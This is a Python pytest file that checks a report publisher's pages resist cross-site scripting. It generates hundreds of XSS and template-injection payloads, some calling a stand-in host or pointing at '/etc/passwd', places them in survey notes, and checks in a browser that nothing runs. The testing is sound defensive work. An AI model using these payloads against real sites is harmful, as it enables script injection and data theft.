"""Hostile words in every field of the notes: no script runs, nothing is asked for, even without the policy.

The payloads are written for this test after the public classes of such attacks (script and event elements,
addresses with a script, encodings, breaking out of attributes, comments and SVG, styles, templates), as the
OWASP pages on cross-site scripting and on HTML5 list them; none is copied from a list.
"""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from reportgen import publish, theme
from reportgen.errors import Problems
from tests.browser import chromium, tools

RUN = "window.ran=1;fetch('http://a.invalid/x')"


def _elements() -> Iterator[str]:
    for tag in (
        "script",
        "SCRIPT",
        "ScRiPt",
        "script/x",
        "script\t",
        "script\n",
        "svg><script",
        "math><script",
    ):
        yield f"<{tag}>{RUN}</script>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield "<script src=http://a.invalid/x.js></script>"
    yield "<script src=//a.invalid/x.js>"
    for tag, rest in itertools.product(
        (
            "img src=x",
            "svg",
            "body",
            "video src=x",
            "audio src=x",
            "input autofocus",
            "details open",
            "a href=#",
        ),
        ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter"),
    ):
        yield f'<{tag} {rest}="{RUN}">'
    for tag in (
        "iframe src",
        "object data",
        "embed src",
        "frame src",
        "link rel=stylesheet href",
        "base href",
    ):
        yield f"<{tag}=http://a.invalid/x>"
        yield f'<{tag}="javascript:{RUN}">'
    yield f'<iframe srcdoc="<script>{RUN}</script>">'
    yield '<meta http-equiv="refresh" content="0;url=http://a.invalid/">'
    yield f'<form action="javascript:{RUN}"><button autofocus>x</button></form>'
    yield f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>'
    yield f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>'
    yield "<svg><use href=http://a.invalid/x.svg#x></svg><svg><image href=http://a.invalid/x.png></svg>"
    yield f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>"
    for inner in ("style", "title", "textarea", "noscript", "template", "xmp", "noembed", "plaintext"):
        yield f'<{inner}><img src=x onerror="{RUN}"></{inner}>'
        yield f'</{inner}><img src=x onerror="{RUN}">'
    yield f'<!--><img src=x onerror="{RUN}">-->'
    yield f"<!-- --!><script>{RUN}</script>"
    yield f"<![CDATA[<script>{RUN}</script>]]>"
    yield f"<?xml version='1.0'?><script>{RUN}</script>"


def _addresses() -> Iterator[str]:
    schemes = (
        "javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "javascript&colon;", "javascript&#58;",
        "&#106;avascript:",
        "\\u006aavascript:", "%6aavascript:", "vbscript:", "data:text/html,", "//a.invalid/",
        "data:image/svg+xml,", "blob:", "file:///etc/passwd#", "view-source:", "feed:javascript:",
    )  # fmt: skip
    forms = ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][1]\n\n[1]: {}", '[x](/ "{}")', "[![x]({})](y)")
    for scheme, form in itertools.product(schemes, forms):
        yield form.format(f"{scheme}{RUN.replace(' ', '')}")


def _breaks() -> Iterator[str]:
    for out in (
        '"',
        "'",
        '">',
        "'>",
        "`",
        "-->",
        "]]>",
        "</p>",
        "</td></tr></table>",
        "</svg>",
        "</details>",
    ):
        yield f"{out}<script>{RUN}</script>"
        yield f"{out} onmouseover={RUN} x={out}"
        yield f"{out} autofocus onfocus={RUN} tabindex=0 {out}"
    for coded in (
        "&lt;script&gt;",
        "&#60;script&#62;",
        "&#x3c;script&#x3e;",
        "%3Cscript%3E",
        "\\x3cscript\\x3e",
        "<script>",
    ):
        yield f"{coded}{RUN}</script>"
    for style in (
        "background:url(http://a.invalid/x)",
        "@import 'http://a.invalid/x'",
        "x:expression(ran=1)",
    ):
        yield f'<p style="{style}">x</p>'
        yield f"<style>{style}</style>"
        yield f"}} {style} {{"
    for template in (
        "{{{{ {} }}}}",
        "{{% {} %}}",
        "${{{}}}",
        "#{{{}}}",
        "<%= {} %>",
        "[[{}]]",
        "{{{{{{{}}}}}}}",
    ):
        for code in ("7*7", "page.__class__.__mro__", "config.items()", "lipsum.__globals__", "self"):
            yield template.format(code)
    for sign in ("\u202e", "\u2028", "\u200b", "\ufeff", "\u00ad", "\uff1c", "\u02bc"):
        yield f"{sign}<script>{RUN}</script>{sign}"


AT_ONCE = 110  # payloads on one page [-]
PAYLOADS = list(dict.fromkeys([*_elements(), *_addresses(), *_breaks()]))
COVER = """---
survey: pre-purchase
inspected: 2026-05-14
reported: 2026-05-16
vessel: {{name: {word}, type: gasoline inboard, found: {{maker: {word}, model: {word}}}}}
people: {{surveyor: {{name: {word}, credentials: [{word}]}}}}
conditions: {{place: {word}, weather: {word}}}
price: {{currency: EUR, asking: 9000}}
rates: {{labour: 90}}
not inspected: {{{word}: {word}}}
---
# {line}

{text}
"""
FINDING = """## {line}
```finding
id: f{number}
severity: schedule
by when: {word}
basis: surveyor's judgement
confidence: seen
hazards: [fire]
risk: {word}
action: {word}
where: {word}
repair:
  labour: 1 / 2 / 3 h
  parts:
    - {{what: {word}, each: 10 / 20 / 30}}
```
{text}

| a | b |
|---|---|
| {cell} | {line} |
"""


def _filled(template: str, payload: str, **more: object) -> str:
    """Put a payload into every field of a note's piece: quoted in YAML, bare in Markdown."""
    line = " ".join(payload.split())
    cell = line.replace("|", "\\|")
    return template.format(word=json.dumps(line), line=line, text=payload, cell=cell, **more)


def _survey(folder: Path, payloads: list[str]) -> None:
    """Write a survey with a payload in every field of its cover note, and a note of each with a finding."""
    folder.mkdir()
    (folder / "cover.md").write_text(_filled(COVER, payloads[0]), encoding="utf-8")
    for number, payload in enumerate(payloads):
        note = _filled(FINDING, payload, number=number)
        (folder / f"{number}.md").write_text(note, encoding="utf-8")


def _accepted(folder: Path, payloads: list[str]) -> list[str]:
    """Give the payloads whose notes are published; the others are refused with an error that says why."""
    _survey(folder, ["x", *payloads])
    problems = Problems()
    publish.check(folder, problems)
    refused = {int(Path(e.place.file).stem) - 1 for e in problems if e.level == "error"}
    return [payload for number, payload in enumerate(payloads) if number not in refused]


def test_there_are_many() -> None:
    assert len(PAYLOADS) >= 300


@pytest.mark.browser
def test_no_script_runs_and_nothing_is_asked_for(browser: Browser, tmp_path: Path) -> None:
    """With the page's policy and, so that it hides nothing, without it."""
    bare = _accepted(tmp_path / "bare", PAYLOADS)
    # a link that no report needs is refused, unless it is said to be no link
    quoted = [f"``` {' '.join(p.split())} ```" for p in PAYLOADS if p not in bare]
    every = [*bare, *_accepted(tmp_path / "quoted", quoted)]
    assert len(bare) >= 150
    assert len(every) >= 300
    for start in range(0, len(every), AT_ONCE):
        _survey(tmp_path / str(start), every[start : start + AT_ONCE])
        pages = _pages(tmp_path / str(start))
        found = {f"{start} {page.name}": _ran(browser, page, bare=True) for page in pages}
        if not start:
            found |= {f"{page.name} with its policy": _ran(browser, page, bare=False) for page in pages}
        tools.nothing(found)


def _pages(folder: Path) -> list[Path]:
    to = folder.parent / f"{folder.name}-out"
    wish = publish.Wish(publish.edition_named("buyer"), theme.find())
    publish.publish(folder, to, wish)
    return tools.pages_of(to)


HANDLERS = (
    "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
    ".filter(a => /^on/i.test(a.name)).length"
)
_POLICY = re.compile(r'<meta http-equiv="?Content-Security-Policy"?[^>]*>', re.I)
BAD_LINKS = (
    "[...document.querySelectorAll('[href],[src],[xlink\\\\:href]')]"
    ".map(e => e.href?.baseVal ?? e.href ?? e.src ?? '')"
    ".filter(a => !/^(https?|mailto|tel|file|data:image\\/jpeg|#)/.test(a))"
)


def _ran(browser: Browser, page: Path, bare: bool) -> list[str]:
    """Give what a page did that it should not: a script that ran, a request, an address with a script."""
    if bare:
        text, count = _POLICY.subn("", page.read_text(encoding="utf-8"))
        assert count == 1
        page = page.with_name(f"bare-{page.name}")
        page.write_text(text, encoding="utf-8")
    with chromium.visit(browser, page, chromium.VIEWS[2]) as seen:
        seen.open_everything()
        found = ["a script ran"] if seen.page.evaluate("window.ran") else []
        found += [f"asked for {url}" for url in seen.outside]
        found += [f"leads to {url}" for url in seen.page.evaluate(BAD_LINKS)]
        found += ["a handler"] * seen.page.evaluate(HANDLERS)
        return found + [f"{m}" for m in seen.console]


@pytest.mark.browser
def test_what_runs_is_seen(browser: Browser, tmp_path: Path) -> None:
    """A page that really holds the payloads gives itself away, so that the silence above means something."""
    policy = '<meta http-equiv="Content-Security-Policy" content="x">'
    page = tmp_path / "page.html"
    for payload in (
        f"<script>{RUN}</script>",
        f'<img src="x" onerror="{RUN}">',
        f'<a href="javascript:{RUN}">x</a>',
    ):
        page.write_text(f"<!doctype html>{policy}<title>x</title>{payload}", encoding="utf-8")
        assert _ran(browser, page, bare=True), payload
